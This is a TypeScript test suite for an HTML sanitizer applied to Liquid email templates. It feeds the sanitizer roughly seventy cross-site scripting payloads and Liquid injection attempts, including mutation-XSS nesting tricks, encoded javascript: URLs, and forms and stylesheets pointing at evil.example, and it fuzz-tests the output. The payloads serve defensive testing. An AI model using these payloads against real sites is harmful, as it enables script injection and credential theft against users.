import fc from "fast-check";
import { Parser } from "htmlparser2";
import { expect, test } from "vitest";
import { isLiquid } from "#lib/templates/liquid";
import { compileSource } from "./compile-source.ts";
import { sanitizeHtml } from "./sanitize-html.ts";
import { tidyValues } from "./values.ts";

const harmless =
  /^(p|div|a|b|i|em|strong|span|br|img|table|tbody|tr|td|th|h1|h2|ul|li|pre|font|center|caption|mark|small|col|address|ol|del|code|q|s|u)$/;
const addresses = /^(href|src|background)$/;
const harmlessAttribute =
  /^(href|src|background|style|class|id|title|alt|width|height|align|name|target|rel|lang|dir|border)$/;

/** Whatever an HTML program would do of itself, or go to, because of this. */
function findDanger(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!harmless.test(name)) {
        found.push(`<${name}>`);
      }
      for (const [key, value] of Object.entries(attributes)) {
        // An empty address leads nowhere.
        const isAddress = addresses.test(key) && !/^($|https:\/\/[^/?#@\\]+([/?#]|$)|mailto:|tel:|#|cid:)/.test(value);
        const isStyle =
          key === "style" &&
          /expression|javascript|@import|binding|behavior|fixed|\\|url\((?!['"]?https:)/i.test(value);
        if (!harmlessAttribute.test(key) || isAddress || isStyle) {
          found.push(`${key}=${value}`);
        }
      }
    },
    oncomment: () => void found.push("comment"),
    onprocessinginstruction: () => void found.push("instruction"),
  });
  parser.end(html);
  return found;
}

const payloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" OnErRoR = "alert(1)" >',
  "<img src=`x`onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  "<noframes><style></noframes><img src=x onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<xmp>&lt;/xmp&gt;<img src=x onerror=alert(1)></xmp>",
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  "<style><!--</style><img src=x onerror=alert(1)>--></style>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
  "<select><option><img src=x onerror=alert(1)></select>",
  "<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  "<object data=javascript:alert(1)><embed src=x></object>",
  "<form action=https://evil.example><input name=password><button formaction=javascript:x>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<body onload=alert(1)><p>x</p></body>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
  '<img srcset="javascript:alert(1)" src="data:image/svg+xml,x">',
  "<div style=\"background:url('javascript:alert(1)')\">x</div>",
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="b\\65havior:url(x)">x</div>',
  '<div style="color:red; position : fixed">x</div>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<table background="javascript:alert(1)"><tr><td></td></tr></table>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<a title="x"onclick=alert(1)>x</a>',
  "<b\u0000 onclick=alert(1)>x</b>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<details open ontoggle=alert(1)>x</details>",
  "<x onclick=alert(1)>x</x>",
  "<p is=x-y onfocus=alert(1) tabindex=1 autofocus>x</p>",
  "<a xlink:href=javascript:alert(1)>x</a>",
];

test.each(payloads)("B18, S19: nothing acts by itself or leads astray in what is left of %j", (payload) => {
  for (const source of [payload, `<p>before</p>${payload}`, `<table><tr><td>${payload}</td></tr></table>`]) {
    const { html } = sanitizeHtml(source);
    expect(findDanger(html)).toEqual([]);
    expect(sanitizeHtml(html)).toEqual({ html, removals: [] });
  }
});

test("the corpus is dangerous before it is cleaned", () => {
  expect(payloads.length).toBeGreaterThan(40);
  const tame = payloads.filter((payload) => findDanger(payload).length === 0);
  // Entities in text, and text that this parser takes for no tag.
  expect(tame.length).toBeLessThan(payloads.length / 8);
});

const kept = [
  '<h1>Hi {{ member_first_name | default: "you > <b>me</b>" }}</h1>',
  "{% if a < 2 %}<p>a &lt; b&nbsp;c</p>{% elsif a > 3 %}<p>x</p>{% endif %}",
  "<table>{% for r in rows %}<tr><td>{{ r }}</td></tr>{% endfor %}</table>",
  '<table>{% if a %}<tr><td width=600 style="color:{{ colour }}">x</td></tr>{% endif %}</table>',
  "<a href=\"{{ app_url }}/me?x={{ code | url_encode }}&y=1\" class='button' title='{{ member_first_name }}'>Plan</a>",
  '<a href="{% if a %}https://a.example/x{% else %}{{ notifications_url }}{% endif %}">x</a>',
  '<p class="{% if a == "x" %}one{% else %}two{% endif %}">x</p>',
  '<p title="{{ "}}<script>" }}">x</p>',
  '{% if a %}<a href="{{ app_url }}">{% endif %}text{% if a %}</a>{% endif %}',
  '<p>line<br>line<br/>line</p><hr /><img src="https://gym.example/a.png" alt="">',
  "<div style=\"position: relative; background: #fff url('https://gym.example/a.png') no-repeat; background-position: center\">x</div>",
  '<span style="display:none;font-family:Segoe UI, sans-serif;mso-line-height-rule:exactly">x</span>',
  "{%- if a -%} <b>x</b> {%- endif -%}",
  '<a href="mailto:team@gym.example?subject=Hi">m</a><a href="tel:+41791234567">t</a><a href="#top">u</a>',
  "\ue000 and \ue0000-0\ue001 are nobody's marks",
  '<a href="{{ offer_url | default: "https://gym.example/offers" }}">x</a>',
];

test.each(kept)("what is fine stays letter by letter: %s", (source) => {
  expect(sanitizeHtml(source)).toEqual({ html: source, removals: [] });
});

test.each([
  [
    "<p onclick=x>{{ A_b | default: '<i>' }}</p>{% if a < 2 %}<script>{{ x }}</script>{% endif %}",
    "<p>{{ A_b | default: '<i>' }}</p>{% if a < 2 %}{% endif %}",
  ],
  [
    '<table onclick=x>{% for r in rows %}<tr><td title="{{ r | default: "a" }}">{{ r }}</td></tr>{% endfor %}</table>',
    '<table>{% for r in rows %}<tr><td title="{{ r | default: "a" }}">{{ r }}</td></tr>{% endfor %}</table>',
  ],
  ["<p onclick=x>{{ '}}<script>' }}</p>", "<p>{{ '}}<script>' }}</p>"],
  ["<{{ x }}script>alert(1)", "&lt;{{ x }}script&gt;alert(1)"],
  ["<p onclick={{ x }} title={{ y }}>", '<p title="{{ y }}"></p>'],
  ["a</td></tr></table></body>b", "ab"],
  ["<html><body><p>b</p></body></html>", "<p>b</p>"],
  ["<!doctype html><html><head><title>t</title><meta charset=utf-8></head><body>b</body></html>", "b"],
])("beside what is removed Liquid stays letter by letter: %s", (source, expected) => {
  expect(sanitizeHtml(source).html).toBe(expected);
});

test.each([
  '<a href="{{ member_first_name }}">x</a>',
  '<a href="{{ app_url }}@evil.example">x</a>',
  '<a href="{{ app_url }}{{ member_first_name }}">x</a>',
  '<a href="{{ app_url | replace: "https", "javascript" }}">x</a>',
  '<a href="{{ x_url | default: "javascript:alert(1)" }}">x</a>',
  '<a href="https://{{ member_first_name }}/">x</a>',
  '<a href="https://gym.example{{ member_first_name }}">x</a>',
  '<a href="{% if a %}https://gym.example/{% else %}javascript:alert(1){% endif %}">x</a>',
  '<a href="{% if a %}{% endif %}javascript:alert(1)">x</a>',
  '<a href="java{% if a %}{% endif %}script:alert(1)">x</a>',
  '{% for x_url in member_first_name %}<a href="{{ x_url }}">x</a>{% endfor %}',
  '<p title="{% if a %}" class=\'{% endif %}\'>hello " onclick=alert(1) ></p>',
  '{% if a %}<p title="{% endif %}" onclick=alert(1) ">x</p>',
  "<scr{{ member_first_name }}ipt>alert(1)</script>",
  "<{% if a %}script>alert(1)</script>{% endif %}",
  "<{{ member_first_name }} onerror=alert(1)>",
  '<p style="background:url({{ member_first_name }})">x</p>',
  '<p style="{{ member_first_name }}:url(javascript:x)">x</p>',
])("B18: Liquid cannot be made to write what is not allowed: %s", (source) => {
  const { html } = sanitizeHtml(source);
  if (isLiquid(html)) {
    for (const values of [
      { a: true },
      {},
      { member_first_name: "javascript:alert(1)" },
      { member_first_name: "@evil.example" },
    ]) {
      const filled = { app_url: "https://app.gym.example", rows: [1], ...values };
      const drawn = compileSource(html, "html")(tidyValues(filled, "en"));
      expect(findDanger(drawn)).toEqual([]);
      expect(drawn).not.toMatch(/gym\.example@|href="[^"]*evil/);
    }
  }
});

test("B18: it can be read at once who took what out, and where", () => {
  const { removals } = sanitizeHtml("<p>x</p>\n<!-- <script> --><script>'<p onclick>'</script><p onclick=x>y</p>");
  expect(removals).toEqual([
    { what: "<script>", index: 26, kind: "unsafe" },
    { what: "onclick of <p>", index: 56, kind: "unsafe" },
  ]);
});

const shards = [
  ...[
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "=",
    " ",
    "&",
    "&lt;",
    "&#60",
    ";",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "\n",
    "\0",
  ],
  ...[
    "<p",
    "<p>",
    "</p>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<a href=",
    "javascript:",
    "https://x.example/",
    "onclick=",
  ],
  ...[
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "<math>",
    "<title>",
    "</title>",
    "<xmp>",
    "<textarea>",
    "title=",
  ],
  ...[
    "{{ x }}",
    '{{ x | default: "<b>" }}',
    "{% if x %}",
    "{% endif %}",
    "{% else %}",
    "text",
    "<br>",
    "<img src=",
    "style=",
  ],
];

test("S19: whatever is written, what is left is safe, and the same when it is cleaned again", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...shards), { maxLength: 14 }), (parts) => {
      const { html } = sanitizeHtml(parts.join(""));
      // Without its Liquid: what that may write is tried above.
      expect(
        findDanger(html.replace(/\{\{.*?\}\}|\{%.*?%\}/g, "")).filter((found) => !found.startsWith("href=")),
      ).toEqual([]);
      expect(sanitizeHtml(html)).toEqual({ html, removals: [] });
    }),
    { numRuns: 5_000, examples: [[["<img src=", "{% if x %}", "{% endif %}", "\n", "<svg>"]]] },
  );
});
